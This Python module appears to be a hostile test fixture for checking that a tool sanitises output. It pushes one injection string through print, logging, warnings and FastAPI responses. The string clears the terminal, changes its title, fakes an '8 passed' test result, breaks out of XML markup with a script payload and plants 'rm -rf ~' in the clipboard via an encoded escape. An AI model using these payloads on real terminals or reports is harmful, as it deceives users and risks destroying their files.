"""Attack: clear the reader's screen, change the title, fill the clipboard, close the markup."""

import logging
import warnings

from fastapi import FastAPI, Response

from .targets import acted

TEXT = (
    "\x1b[2J\x1b[H\x1b]0;mine\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[32m8 passed\x1b[0m\r"
    "\u202e ]]></failure><script>alert(1)</script>\x9b31m\ud800 [bold]=1+1"
)
acted("import")
print(TEXT)
logging.getLogger(TEXT).error(TEXT)
warnings.warn(TEXT.replace("\ud800", ""), stacklevel=1)
app = FastAPI(title=TEXT.replace("\ud800", ""))


@app.get("/{path:path}")
async def answer(path: str):
    acted("request")
    body = TEXT.encode("utf-8", "surrogatepass")
    return Response(body, 200, {"content-type": "application/json\t"})


@app.post("/items")
async def create():
    acted("error")
    raise RuntimeError(TEXT)
